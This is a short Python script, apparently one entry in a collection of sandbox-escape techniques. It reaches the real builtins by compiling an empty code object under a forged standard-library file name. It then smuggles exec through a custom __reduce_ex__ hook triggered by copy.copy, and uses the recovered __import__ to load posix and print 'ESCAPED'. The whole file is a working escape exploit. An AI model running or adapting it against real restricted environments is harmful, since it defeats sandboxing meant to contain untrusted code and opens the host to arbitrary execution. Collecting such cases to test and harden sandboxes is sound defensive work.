# technique: the same with a code object under a forged file name, and the builtins inspected
# goal: builtins
# source: own analysis: the default builtins of exec
import copy
import functools
g = {}
code = compile('', '@STDLIB@/copy.py', 'exec')


class Carrier:
    def __reduce_ex__(self, version):
        return functools.partial(exec, code, g), ()


try:
    copy.copy(Carrier())
except Exception:
    pass
get = g['__builtins__']['__import__']
print('ESCAPED pid=%d' % get('posix').getpid())
